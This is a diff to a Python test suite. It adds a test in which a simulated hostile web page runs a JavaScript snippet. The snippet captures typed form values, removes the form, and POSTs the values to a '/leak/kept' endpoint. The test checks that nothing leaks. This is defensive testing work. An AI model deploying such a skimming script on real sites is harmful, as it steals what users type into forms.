@@ -311,6 +311,24 @@ def test_a_form_that_changes_at_the_press_is_reviewed_again(run: Start) -> None:
         assert 1 >= len(after(site, 0.3).sends())
 
 
+TAKING_AWAY = (
+    "let kept = ''; const away = setInterval(() => { const t = e.value + r.value;"
+    " if (!loaded(t)) return; kept = t; if (r.value) { f.remove(); clearInterval(away); } }, 100);"
+    "setInterval(() => kept && fetch(OWN + '/leak/kept', {method: 'POST', body: kept})"
+    ".catch(() => 0), 100);"
+)
+
+
+def test_a_page_that_takes_its_form_away_gets_nothing(run: Start) -> None:
+    """The gate opens again when a form is gone; a page that tried to send is thrown away first."""
+    with HostileSite(Behaviour(TAKING_AWAY, "urlencoded")) as site:
+        ended = run(site.url, "absent").wait()
+
+        assert any("form.left" in e.values() for e in ended.events())
+        assert [] == after(site).leaks()
+        assert [] == site.sends()
+
+
 def test_the_reason_is_what_was_typed(run: Start) -> None:
     """The reason that arrives is the file's, to the letter."""
     with HostileSite(Behaviour("", "utf-16")) as site:
